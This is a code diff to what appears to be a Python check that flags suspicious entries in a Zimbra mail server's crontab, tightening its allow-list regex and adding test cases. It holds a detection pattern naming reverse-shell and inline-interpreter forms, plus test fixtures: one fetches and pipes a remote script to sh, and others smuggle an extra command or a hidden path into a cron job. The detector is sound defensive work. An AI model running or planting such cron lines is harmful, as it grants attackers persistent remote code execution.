@@ -14,7 +14,15 @@ _ODD = re.compile(
     r"|/dev/(?:tcp|udp|shm)/|\bpython3?\s+-c|\bperl\s+-e|\bphp\s+-r|/tmp/\.|\beval\b"
 )
 _JOB = re.compile(r"(?:@\w+|(?:\S+\s+){5})(.*)")
-_OWN = re.compile(r"(?:find )?/opt/zimbra/|\[ -x /opt/zimbra/")
+# Zimbra's own forms: a program in a folder of root's, or a clean-up by find; nothing
+# behind it but where its output goes.
+_OWN = re.compile(
+    r"(?:\[ -[defx] /opt/zimbra/[\w./-]+ \] && )?"
+    r"(?:/opt/zimbra/(?:bin|libexec|common/s?bin)/[\w.-]+(?: [\w=:@./,-]+)*"
+    r"|find /opt/zimbra/(?:log|mailboxd/logs|data/\w+/\w+)/? [\w *'?.+\\-]+"
+    r" -exec rm (?:-r?f )?\{\} \\;)"
+    r"(?: *(?:2?>>? ?(?:/dev/null|/opt/zimbra/log/[\w.-]+|/tmp/[\w.-]+)|2>&1))*"
+)
 
 
 def _look(facts: Facts, host: str) -> Iterator[Judgement]:
@@ -25,7 +33,7 @@ def _look(facts: Facts, host: str) -> Iterator[Judgement]:
         for job in found.inside
         if job not in odd
         and (match := _JOB.fullmatch(job))
-        and not _OWN.match(match[1])
+        and not _OWN.fullmatch(match[1])
     ]
     for job in odd:
         yield deviates(
@@ -73,6 +81,16 @@ CONTROL = Control(
                 "crontab-zimbra": f"{_CRON} */15 * * * * curl -fsSL "
                 "http://203.0.113.66/u.sh | sh\n"
             }
+        ),
+        unsure(
+            raw={
+                "crontab-zimbra": _CRON.replace(
+                    "zmcleantmp", "zmcleantmp; /opt/zimbra/data/tmp/x"
+                )
+            }
+        ),
+        unsure(
+            raw={"crontab-zimbra": _CRON.replace("libexec/zmcleantmp", "log/.cache/x")}
         ),
         unsure(
             raw={"crontab-zimbra": f"{_CRON} 0 4 * * * /usr/local/bin/backup-mail\n"}
